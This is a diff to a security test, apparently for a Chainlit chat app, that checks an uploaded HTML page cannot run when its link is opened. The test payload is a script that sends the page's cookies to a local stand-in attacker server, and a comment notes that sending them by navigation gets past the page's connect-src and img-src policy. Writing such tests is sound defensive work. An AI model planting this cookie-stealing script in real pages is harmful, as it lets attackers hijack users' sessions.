@@ -97,7 +97,8 @@ def test_an_uploaded_html_page_does_not_run_when_its_link_is_opened(page_factory
     with listening_server() as (attacker, asked):
         page = open_chat(page_factory, guarded_app)
         session = next(c["value"] for c in page.context.cookies() if c["name"] == "X-Chainlit-Session-id")
-        html = f"<html><body><script>fetch('{attacker}/ran?' + document.cookie)</script></body></html>"
+        # It leaves by navigating, which no connect-src or img-src of the page policy stops.
+        html = f"<html><body><script>location.href = '{attacker}/ran?' + document.cookie</script></body></html>"
         uploaded = httpx.post(f"{guarded_app.app_url}/project/file", params={"session_id": session},
                               files={"file": ("page.html", html.encode(), "text/html")})
         link = f"{guarded_app.app_url}/project/file/{uploaded.json()['id']}?session_id={session}"
